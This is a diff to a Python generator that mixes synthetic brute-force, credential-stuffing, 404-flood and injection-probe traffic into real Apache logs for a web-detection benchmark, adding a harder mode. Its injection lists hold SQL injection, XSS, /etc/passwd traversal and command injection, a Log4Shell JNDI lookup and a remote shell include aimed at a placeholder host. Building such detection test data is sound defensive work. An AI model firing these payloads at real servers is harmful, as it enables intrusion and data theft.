@@ -7,6 +7,9 @@ without it.
 usage: zcat $BACKSIGHT_DATA/websec/src/elastic_apache_logs_2015-05-17_18.log.gz |
          python3 websec_gen_mix.py OUT_DIR --seed N
 then:  websec_bench --data OUT_DIR
+--hard: shapes built to sit where the signals run out (limits, not a bar): campaign members with
+the site's own user agents and no shared /24, benign give-ups that fail twice, single-request
+probers whose payload one CRS rule flags, a brute force of one attempt every 10-20 minutes.
 Shapes: brute force on a drawn login endpoint (basic auth, JSON token, form); a credential-stuffing
 campaign (20-60 clients, 1-3 failures each, some from shared /24s, some fetching the login page
 first, over 2-10 h); benign users logging in all day (some browse first, a fifth mistype once, a
@@ -20,6 +23,7 @@ import websec_mix as W
 
 OUT = sys.argv[1]
 SEED = int(sys.argv[sys.argv.index('--seed') + 1]) if '--seed' in sys.argv else 1
+HARD = '--hard' in sys.argv
 rng = random.Random(1000 + SEED)
 os.makedirs(OUT, exist_ok=True)
 ben = W.read_benign('/dev/stdin', 1431820800, 1431993600, SEED)
@@ -48,6 +52,8 @@ for k in range(2):
     ip = pool.get(); rows = []
     shape = rng.choice(['basic', 'token', 'form'])
     n = rng.randint(25, 150); gap = rng.choice([(1, 3), (5, 30), (60, 300)])
+    if HARD:
+        n, gap = rng.randint(20, 40), (600, 1200)
     t = when(n * gap[1])
     for j in range(n):
         if shape == 'basic':
@@ -67,15 +73,15 @@ n_members = rng.randint(20, 60); hours = rng.randint(2, 10)
 cs_start = when(hours * 3600)
 nets = ['%d.%d.%d' % (rng.randint(11, 200), rng.randint(0, 255), rng.randint(0, 255))
         for _ in range(rng.randint(2, 8))]
-share24 = rng.random()  # fraction of members from the campaign's /24s
+share24 = 0 if HARD else rng.random()  # fraction of members from the campaign's /24s
 get_first = rng.random() < 0.5
 for k in range(n_members):
     ip = pool.get(same24=rng.choice(nets)) if rng.random() < share24 else pool.get()
     t = cs_start + rng.randint(0, hours * 3600); rows = []
-    ua = rng.choice(W.BROWSER_UAS)
+    ua = rng.choice(real_uas if HARD else W.BROWSER_UAS)
     if get_first:
         rows.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua))); t += rng.randint(1, 8)
-    for j in range(rng.randint(1, 3)):
+    for j in range(rng.randint(1, 2 if HARD else 3)):
         rows.append((t, L(ip, t, 'POST', '/login', 401, 300, SITE + '/login', ua)))
         t += rng.randint(10, 900)
     add(ip, 'credential_stuffing', rows, 'gen_cs')
@@ -90,8 +96,9 @@ for k in range(300):
     ev.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua), 'benign', ip))
     t += rng.randint(3, 20)
     if rng.random() < 0.2:
-        ev.append((t, L(ip, t, 'POST', '/login', 401, 300, SITE + '/login', ua), 'benign', ip))
-        t += rng.randint(5, 30)
+        for j in range(rng.randint(1, 2) if HARD else 1):
+            ev.append((t, L(ip, t, 'POST', '/login', 401, 300, SITE + '/login', ua), 'benign', ip))
+            t += rng.randint(5, 30)
         if rng.random() < 0.33:
             continue
     ev.append((t, L(ip, t, 'POST', '/login', 302, 300, SITE + '/login', ua), 'benign', ip))
@@ -124,20 +131,20 @@ while t < end:
     t += rng.expovariate(rate)
 add(ip, 'abusive_client', rows, 'gen_404_flood')
 
+# injection probers of 2-4 requests with payloads CRS sees with one rule each
+modern = ['/search?q=%7B%7B7*7%7D%7D', '/?name=${7*7}', '/?x=${jndi:ldap://198.51.100.9/a}',
+          '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
+          '/index.php?page=expect://id', '/index.php?page=phar://uploads/x.jpg',
+          '/?url=http://198.51.100.9/shell.txt?']
 # injection probers of one request (classic payloads on real paths)
 classic = ["?id=1'%20OR%20'1'='1", "?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "?file=../../../../etc/passwd", "?q=1%20UNION%20SELECT%20null,version()--",
            "?s=%3Cimg%20src=x%20onerror=alert(1)%3E", "?cmd=;cat%20/etc/passwd"]
 for k in range(3):
     ip = pool.get(); t = when(60)
-    p = rng.choice(paths).split('?')[0] + rng.choice(classic)
+    p = rng.choice(modern) if HARD else rng.choice(paths).split('?')[0] + rng.choice(classic)
     add(ip, 'injection_probe', [(t, L(ip, t, 'GET', p, rng.choice([200, 400, 403, 404]), 300, '-',
                                       rng.choice(W.BROWSER_UAS)))], 'gen_inj_single')
-# injection probers of 2-4 requests with payloads CRS sees with one rule each
-modern = ['/search?q=%7B%7B7*7%7D%7D', '/?name=${7*7}', '/?x=${jndi:ldap://198.51.100.9/a}',
-          '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
-          '/index.php?page=expect://id', '/index.php?page=phar://uploads/x.jpg',
-          '/?url=http://198.51.100.9/shell.txt?']
 for k in range(3):
     ip = pool.get(); t = when(600); rows = []
     for j in range(rng.randint(2, 4)):
@@ -167,5 +174,5 @@ with open(os.path.join(OUT, 'labels.tsv'), 'w') as f:
                                'labels.tsv')):
         if '\tignore\t' in l:
             f.write(l)
-print('lines=%d attack_rows=%d campaign=%d clients over %d h, %.2f from %d /24s, get_first=%s' % (
+print(('hard ' if HARD else '') + 'lines=%d attack_rows=%d campaign=%d clients over %d h, %.2f from %d /24s, get_first=%s' % (
     len(ev), len(labels), n_members, hours, share24, len(nets), get_first))
